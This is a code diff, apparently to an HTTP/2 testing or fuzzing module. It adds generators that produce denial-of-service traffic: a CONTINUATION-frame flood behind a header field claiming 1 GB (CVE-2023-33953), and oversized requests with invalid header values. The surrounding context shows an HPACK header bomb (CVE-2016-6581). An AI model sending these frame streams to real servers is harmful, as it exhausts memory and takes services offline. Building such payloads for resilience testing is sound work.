@@ -121,6 +121,27 @@ def continuation(count=20_000):
         yield ContinuationFrame(1, field).serialize()
 
 
+def endless_field(count=20_000):
+    """One field of a header that says that it has 1 GB; what has come of it is read anew with each frame (CVE-2023-33953)."""
+    field = b"\x00\x01x\x7f\x81\xff\xff\xff\x03"
+    yield HeadersFrame(1, hpack.Encoder().encode(REQUEST) + field, flags=[]).serialize()
+    for _ in range(count):
+        yield ContinuationFrame(1, b"v" * 16_000).serialize()
+
+
+def odd_header(name, size):
+    """One whose field `name` has a value that it may not have, and `size` bytes of others behind it."""
+    fields = [(key, "x" if key == name else value) for key, value in REQUEST]
+    if not name.startswith(":"):
+        fields = [(key, value) for key, value in fields if key != name] + [(name, "x")]
+    block = hpack.Encoder().encode(fields + [(f"x-{number}", "v" * 1000) for number in range(size // 1000)], huffman=False)
+    pieces = [block[begin:begin + 16_000] for begin in range(0, len(block), 16_000)]
+    for number, piece in enumerate(pieces):
+        flags = ["END_HEADERS"] if piece is pieces[-1] else []
+        yield (ContinuationFrame(1, piece, flags=flags) if number else HeadersFrame(1, piece, flags=flags)).serialize()
+    yield DataFrame(1, b"\0\0\0\0\0", flags=["END_STREAM"]).serialize()
+
+
 def header_bomb(streams=200):
     """Headers of 4 KB in the table, named 12,000 times by a byte each: 48 MB for each 12 KB (CVE-2016-6581)."""
     encoder = hpack.Encoder()
